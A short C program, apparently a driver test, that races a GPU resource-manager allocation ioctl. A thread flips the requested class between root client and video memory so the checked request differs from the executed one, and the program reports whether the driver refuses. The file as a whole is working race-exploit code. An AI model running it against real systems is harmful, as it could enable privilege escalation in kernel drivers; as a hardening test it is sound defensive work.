/* Asks for root clients while a thread turns the class into that of video memory and back, so that what is
 * checked is not what is carried out. Prints "attacking", and "refused" when no call is served from then on;
 * then waits to be killed. */
#define _GNU_SOURCE
#include "rm.h"
#include <pthread.h>

enum { ATTEMPTS = 2000, KIB_512 = 512 << 10 };

static struct rm_alloc shot;
static volatile int over;

/* Of memory the client is the first word, which of a client is its name to be. */
static void *flip(void *arg)
{
    volatile struct rm_alloc *s = &shot;
    uint32_t client = *(const uint32_t *)arg;

    while (!over) {
        s->root = s->handle = 0;
        s->class_id = NV01_ROOT_CLIENT;
        usleep(200);
        s->handle = 0;
        s->root = client;
        s->class_id = NV01_MEMORY_LOCAL_USER;
        usleep(200);
    }
    return NULL;
}

int main(void)
{
    uint32_t client = 0;
    int fd = open_client(&client);
    struct rm_memory memory = {.owner = OWNER, .size = KIB_512};
    pthread_t thread;

    say("attacking");
    pthread_create(&thread, NULL, flip, &client);
    for (int i = 0; i < ATTEMPTS; i++) {
        shot = (struct rm_alloc){.parent = DEVICE, .params = (uintptr_t)&memory};
        memory = (struct rm_memory){.owner = OWNER, .size = KIB_512};
        if (ioctl(fd, RM_CMD(NV_ESC_RM_ALLOC, sizeof(shot)), &shot)) {
            over = 1;
            say("refused");
            hold();
        }
    }
    printf("never caught\n");
    return 1;
}
